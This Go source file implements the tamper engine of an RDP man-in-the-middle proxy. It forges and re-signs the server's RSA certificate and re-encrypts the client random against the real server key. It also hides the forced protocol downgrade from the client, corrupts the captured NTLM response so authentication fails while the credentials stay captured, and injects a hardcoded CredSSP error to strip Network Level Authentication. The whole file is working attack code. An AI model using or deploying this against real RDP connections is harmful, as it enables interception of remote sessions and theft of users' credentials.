package rdpmitm

import (
	"bytes"
	"encoding/hex"
)

// credSSPDowngradePayload is the literal 15-byte TS_REQUEST error
// substituted for a server-initiated CredSSP negotiation, both as a
// tamper-engine rewrite and as the payload sent to the client on a "TLS
// alert: access denied".
var credSSPDowngradePayload = mustHex("300da003020104a4060204c000005e")

func mustHex(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return b
}

// tamperFrame runs the five tamper-engine steps in order, each gated by
// its own pattern match, returning the (possibly rewritten) frame to
// forward to the peer. Returns an *AssertionError if the certificate
// self-check in replaceServerCert fails — fatal for the session, since it
// means the certificate was mis-parsed and forwarding would corrupt the
// wire format.
func tamperFrame(frame []byte, fromClient bool, s *Session) ([]byte, error) {
	result := frame

	if s.crypto.clientRand != nil && s.crypto.encClientRand != nil {
		if rewritten, ok := reencryptClientRandom(result, s); ok {
			result = rewritten
			s.recordTamperAction("reencrypt")
		}
	}

	if bytes.Contains(result, []byte{0x02, 0x0c}) && bytes.Contains(result, []byte("RSA1")) {
		rewritten, err := replaceServerCert(result, s)
		if err != nil {
			return nil, err
		}
		if rewritten != nil {
			result = rewritten
			s.recordTamperAction("recert")
		}
	}

	if rewritten, ok := hideForgedProtocolRequest(result, s); ok {
		result = rewritten
		s.recordTamperAction("hide_downgrade")
	}

	if s.ntResponse != nil && s.rdpProtocol > 2 {
		if rewritten, ok := mangleNTResponse(result, s); ok {
			result = rewritten
			s.recordTamperAction("nt_mangle")
		}
	}

	if !fromClient && s.serverChallenge != nil {
		if rewritten, ok := downgradeCredSSP(result); ok {
			result = rewritten
			s.logger.Info("downgrading CredSSP")
			s.recordTamperAction("credssp_downgrade")
		}
	}

	return result, nil
}

// recordTamperAction increments the tamper-action counter if metrics are
// wired up; a Session built without a Metrics instance skips the count.
func (s *Session) recordTamperAction(action string) {
	if s.metrics != nil {
		s.metrics.TamperActionsTotal.WithLabelValues(action).Inc()
	}
}

// reencryptClientRandom: once clientRand is known, replace the ciphertext
// the client produced against the forged key with the same plaintext
// encrypted against the real server's key, so the server's own key
// exchange still succeeds.
func reencryptClientRandom(frame []byte, s *Session) ([]byte, bool) {
	if !bytes.Contains(frame, s.crypto.encClientRand) {
		return nil, false
	}
	realKey := rsaKeyFromModulus(s.crypto.serverModulus, s.crypto.serverPubExponent)
	reencrypted := append(rsaEncryptLE(s.crypto.clientRand, realKey), make([]byte, 8)...)
	return bytes.Replace(frame, s.crypto.encClientRand, reencrypted, 1), true
}

// replaceServerCert generates a forged RSA key matching the captured
// modulus's bit length, splices its modulus in place of the original
// everywhere in the frame, and recomputes + splices the certificate
// signature. The self-check (recomputed signature over the captured
// fields equals the captured signature) guards against a mis-parsed
// certificate corrupting the forwarded bytes.
func replaceServerCert(frame []byte, s *Session) ([]byte, error) {
	if s.crypto.serverModulus == nil || s.crypto.serverSign == nil {
		return nil, nil
	}

	oldSig := signCertificate(concat(s.crypto.serverFirst5Fields, s.crypto.serverPubkeyBlob), len(s.crypto.serverSign))
	if !bytes.Equal(oldSig, s.crypto.serverSign) {
		return nil, newAssertionError("replaceServerCert", "recomputed certificate signature does not match captured signature")
	}

	keyLen := len(s.crypto.serverModulus) - 8
	if keyLen <= 0 {
		return nil, newAssertionError("replaceServerCert", "captured modulus shorter than the 8-byte RDP padding")
	}

	forged, err := generateRSAKey(keyLen * 8)
	if err != nil {
		return nil, err
	}
	s.crypto.forgedKey = forged

	newModulus := forged.modulusLE(keyLen + 8)
	oldModulus := s.crypto.serverModulus

	result := bytes.Replace(frame, oldModulus, newModulus, -1)
	newPubkeyBlob := bytes.Replace(s.crypto.serverPubkeyBlob, oldModulus, newModulus, 1)
	newSig := signCertificate(concat(s.crypto.serverFirst5Fields, newPubkeyBlob), len(s.crypto.serverSign))
	result = bytes.Replace(result, s.crypto.serverSign, newSig, 1)

	return result, nil
}

// hideForgedProtocolRequest rewrites the protocol byte the server's MCS
// Connect Response echoes back: the server sees the (possibly downgraded)
// protocol the proxy substituted during negotiation, so this restores the
// original client-requested value before the response reaches the client.
func hideForgedProtocolRequest(frame []byte, s *Session) ([]byte, bool) {
	marker := []byte("McDn")
	idx := bytes.Index(frame, marker)
	if idx < 0 {
		return nil, false
	}
	// marker(4) + 1 wildcard byte + literal 0x01,0x0c(2) = 7-byte match
	matchEnd := idx + 7
	if matchEnd+6 >= len(frame) {
		return nil, false
	}
	if frame[idx+5] != 0x01 || frame[idx+6] != 0x0c {
		return nil, false
	}
	out := append([]byte{}, frame...)
	out[matchEnd+6] = byte(s.rdpProtocolOld)
	return out, true
}

// mangleNTResponse flips the first byte of the captured NT proof wherever
// it appears in the frame, so server-side NTLM authentication fails
// without tearing down the connection in a way that would hide the
// credentials already captured.
func mangleNTResponse(frame []byte, s *Session) ([]byte, bool) {
	if len(s.ntResponse) < 1 || !bytes.Contains(frame, s.ntResponse) {
		return nil, false
	}
	fake := append([]byte{}, s.ntResponse...)
	fake[0] = byte((int(fake[0]) + 1) % 0xFF)
	return bytes.Replace(frame, s.ntResponse, fake, 1), true
}

// downgradeCredSSP replaces a server-initiated CredSSP negotiation
// (TSRequest ASN.1 sequence/context tag shapes) with the literal
// TS_REQUEST error, so the client observes a clean rejection instead of
// completing NLA.
func downgradeCredSSP(frame []byte) ([]byte, bool) {
	if len(frame) < 3 || frame[0] != 0x30 || frame[2] != 0xa0 {
		return nil, false
	}
	if bytes.IndexByte(frame[3:], 0x6d) < 0 {
		return nil, false
	}
	return append([]byte{}, credSSPDowngradePayload...), true
}
